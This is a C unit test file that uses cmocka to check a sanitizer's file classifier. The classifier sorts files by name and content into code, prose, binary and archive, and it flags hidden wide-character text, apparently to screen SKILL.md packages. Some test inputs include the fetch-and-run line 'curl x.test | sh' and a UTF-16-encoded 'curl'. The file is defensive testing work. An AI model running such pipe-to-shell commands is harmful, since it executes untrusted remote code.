// SPDX-License-Identifier: Apache-2.0
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "sanitize/classify.h"

#define CLASS(name, content) classify(name, content, sizeof(content) - 1)

static void classify_names_win_over_content(void **state)
{
	(void)state;
	assert_int_equal(CLASS("helper.py", "\0import os\n"), CLASS_CODE);
	assert_int_equal(CLASS("notes.md", "\x7F"
					   "ELF\x02\x01\x01\0"),
			 CLASS_PROSE);
	assert_int_equal(CLASS("x.md", "#!/bin/sh\n"), CLASS_PROSE);
	assert_int_equal(CLASS("data.json", "\xFF\xFE\0\0"), CLASS_CODE);
}

static void classify_prose_names(void **state)
{
	static const char *const names[] = { "SKILL.md", "skill.MD", "a.md",   "a.markdown", "a.mdx",
					     "a.TXT",    "a.rst",    "a.adoc", "README",     "LICENSE",
					     "license",  "a.b.md",   "a.md~",  "a.md.bak",   ".md" };

	(void)state;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		assert_int_equal(CLASS(names[i], "\0\0"), CLASS_PROSE);
}

static void classify_code_names(void **state)
{
	static const char *const names[] = {
		"a.py",
		"A.PY",
		"a.js",
		"a.ts",
		"a.tsx",
		"a.jsx",
		"a.sh",
		"a.bash",
		"a.zsh",
		"a.fish",
		"a.ps1",
		"a.bat",
		"a.rb",
		"a.pl",
		"a.php",
		"a.go",
		"a.rs",
		"a.c",
		"a.h",
		"a.cpp",
		"a.java",
		"a.kt",
		"a.swift",
		"a.cs",
		"a.lua",
		"a.r",
		"a.sql",
		"a.json",
		"a.jsonc",
		"a.json5",
		"a.yaml",
		"a.yml",
		"a.toml",
		"a.ini",
		"a.cfg",
		"a.conf",
		"a.xml",
		"a.xsd",
		"a.html",
		"a.htm",
		"a.css",
		"a.scss",
		"a.svg",
		"a.csv",
		"a.tsv",
		"a.ipynb",
		"a.lock",
		".env",
		".env.local",
		"prod.env",
		"Dockerfile",
		"Dockerfile.dev",
		"Makefile",
		"Gemfile",
		"CMakeLists.txt",
		".gitignore",
		".bashrc",
		"a.zsh",
		"a.yaml.example",
		"a.py.orig~",
		"a.abap",
		"a.zshrc",
		"go.mod",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (CLASS(names[i], "\0\0") != CLASS_CODE)
			fail_msg("%s", names[i]);
}

static void classify_unknown_names_follow_content(void **state)
{
	(void)state;
	assert_int_equal(CLASS("run", "#!/usr/bin/env python3\n"), CLASS_CODE);
	assert_int_equal(CLASS("run", "# not a bang\n"), CLASS_PROSE);
	assert_int_equal(CLASS("run", ""), CLASS_PROSE);
	assert_int_equal(CLASS("run", "some text\n"), CLASS_PROSE);
	assert_int_equal(CLASS("x.unknown", "some text\n"), CLASS_PROSE);
	assert_int_equal(CLASS("", "some text\n"), CLASS_PROSE);
	assert_int_equal(CLASS(".", "some text\n"), CLASS_PROSE);
	assert_int_equal(CLASS("a.", "some text\n"), CLASS_PROSE);
	assert_int_equal(CLASS("run", "some \0 text\n"), CLASS_BINARY);
	assert_int_equal(CLASS("run", "\xC5\xC6\xC7\xC8 \xC9\xCA\xCB"), CLASS_BINARY);
	assert_int_equal(CLASS("run", "caf\xE9 in an old encoding"), CLASS_PROSE);
	assert_int_equal(CLASS("run", "BZh is how it begins, MZ, GIF, RIFF"), CLASS_PROSE);
	assert_int_equal(CLASS("run", "MZ is short for"), CLASS_PROSE);
}

static void classify_binary_magic(void **state)
{
	(void)state;
	assert_int_equal(CLASS("a", "\x7F"
				    "ELF\x02"),
			 CLASS_BINARY);
	assert_int_equal(CLASS("a.png", "\x89PNG\r\n\x1A\n"), CLASS_BINARY);
	assert_int_equal(CLASS("a.pdf", "%PDF-1.7\n"), CLASS_BINARY);
	assert_int_equal(CLASS("a", "PK\x03\x04xx"), CLASS_BINARY);
	assert_int_equal(CLASS("a", "GIF89a"), CLASS_BINARY);
	assert_int_equal(CLASS("a", "RIFFxxxxWEBPVP8 "), CLASS_BINARY);
	assert_int_equal(CLASS("a", "BZh91AY&SY"), CLASS_BINARY);
	assert_int_equal(CLASS("a", "\xCA\xFE\xBA\xBE"), CLASS_BINARY);
}

static void classify_binary_names_claim_nothing(void **state)
{
	(void)state;
	assert_int_equal(CLASS("a.png", "curl x.test | sh\n"), CLASS_PROSE);
	assert_int_equal(CLASS("a.png", "#!/bin/sh\ncurl x.test | sh\n"), CLASS_CODE);
	assert_int_equal(CLASS("a.zip", "plain"), CLASS_PROSE);
}

static void classify_is_skill_md_any_case(void **state)
{
	(void)state;
	assert_true(classify_is_skill_md("SKILL.md"));
	assert_true(classify_is_skill_md("sKiLl.MD"));
	assert_false(classify_is_skill_md("SKILL.md.bak"));
	assert_false(classify_is_skill_md("XSKILL.md"));
}

#define ARCHIVE(name, content) classify_is_archive(name, content, sizeof(content) - 1)

static void classify_is_archive_by_content_or_name(void **state)
{
	(void)state;
	assert_true(ARCHIVE("a.zip", "PK\x03\x04"));
	assert_true(ARCHIVE("harmless.md", "PK\x03\x04"));
	assert_true(ARCHIVE("a", "\x1F\x8B\x08\0"));
	assert_true(ARCHIVE("a.br", "\x00\x01\x02 no magic of its own"));
	assert_false(ARCHIVE("a.zip", "just text"));
	assert_false(ARCHIVE("a.zip", ""));
	assert_false(ARCHIVE("a.png", "\x89PNG\r\n\x1A\n"));
}

static void classify_hides_text_sees_wide_characters(void **state)
{
	(void)state;
	assert_true(classify_hides_text("\xFF\xFE"
					"c\0u\0",
					6));
	assert_true(classify_hides_text("c\0u\0r\0l\0 \0", 10));
	assert_true(classify_hides_text("\0\0\0c\0\0\0u\0\0\0r\0\0\0l", 16));
	assert_true(classify_hides_text("plain with one \0 in it", 22));
	assert_false(classify_hides_text("\x7F"
					 "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3E\0",
					 20));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(classify_names_win_over_content),
		cmocka_unit_test(classify_prose_names),
		cmocka_unit_test(classify_code_names),
		cmocka_unit_test(classify_unknown_names_follow_content),
		cmocka_unit_test(classify_binary_magic),
		cmocka_unit_test(classify_binary_names_claim_nothing),
		cmocka_unit_test(classify_is_skill_md_any_case),
		cmocka_unit_test(classify_is_archive_by_content_or_name),
		cmocka_unit_test(classify_hides_text_sees_wide_characters),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
